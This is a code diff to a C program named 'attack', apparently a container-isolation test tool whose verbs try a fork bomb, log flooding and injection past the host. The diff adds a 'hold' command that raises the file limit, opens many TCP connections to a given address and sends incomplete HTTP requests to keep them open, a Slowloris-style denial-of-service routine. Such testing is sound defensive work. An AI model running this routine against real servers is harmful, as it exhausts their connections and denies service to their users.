@@ -9,6 +9,7 @@
  *   attack inject ADDRESS              the same to ADDRESS, by its MAC address and past the host
  *   attack fork                        as many processes as it is given
  *   attack log MEGABYTES               writes to the log of the container
+ *   attack hold ADDRESS PORT COUNT     begins a request on each of COUNT connections, and holds them for ten seconds
  *
  * One line says what came of it. Exit status: 0 if it worked, 1 if not, 2 if it was not allowed to try.
  */
@@ -27,6 +28,7 @@
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/prctl.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -290,6 +292,50 @@ fork_all(void)
 	return count == PROCESSES ? 0 : 1;
 }
 
+/* How many of the sockets are connected; what more there are is not told from those that wait. */
+static unsigned
+connected(const struct pollfd *all, unsigned count)
+{
+	struct sockaddr_in peer;
+	unsigned nr = 0;
+
+	for (unsigned i = 0; i < count; i++) {
+		socklen_t size = sizeof(peer);
+		if (getpeername(all[i].fd, (struct sockaddr *)&peer, &size) == 0)
+			nr++;
+	}
+	return nr;
+}
+
+static int
+hold(const char *address, const char *port, const char *many)
+{
+	static const char begun[] = "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ";
+	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = address_of(address) };
+	unsigned want = (unsigned)strtoul(many, NULL, 10), count = 0;
+	struct pollfd *all = calloc(want, sizeof(all[0]));
+	struct rlimit files = { 0 };
+
+	getrlimit(RLIMIT_NOFILE, &files);
+	files.rlim_cur = files.rlim_max;
+	setrlimit(RLIMIT_NOFILE, &files);
+	to.sin_port = htons((uint16_t)strtol(port, NULL, 10));
+	for (; all != NULL && count < want; count++) {
+		int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+		if (fd < 0)
+			break;
+		all[count] = (struct pollfd){ .fd = fd, .events = POLLOUT };
+		connect(fd, (struct sockaddr *)&to, sizeof(to));
+	}
+	sleep(3);
+	for (unsigned i = 0; i < count; i++)
+		send(all[i].fd, begun, sizeof(begun) - 1, MSG_NOSIGNAL);
+	printf("%u of %u connections to %s:%s\n", connected(all, count), count, address, port);
+	fflush(stdout);
+	sleep(10);
+	return connected(all, count) > 0 ? 0 : 1;
+}
+
 static int
 write_log(const char *megabytes)
 {
@@ -325,6 +371,8 @@ main(int argc, char **argv)
 		return inject(argv[2]);
 	if (strcmp(verb, "fork") == 0 && argc == 2)
 		return fork_all();
+	if (strcmp(verb, "hold") == 0 && argc == 5)
+		return hold(argv[2], argv[3], argv[4]);
 	if (strcmp(verb, "log") == 0 && argc == 3)
 		return write_log(argv[2]);
 	printf("not understood\n");
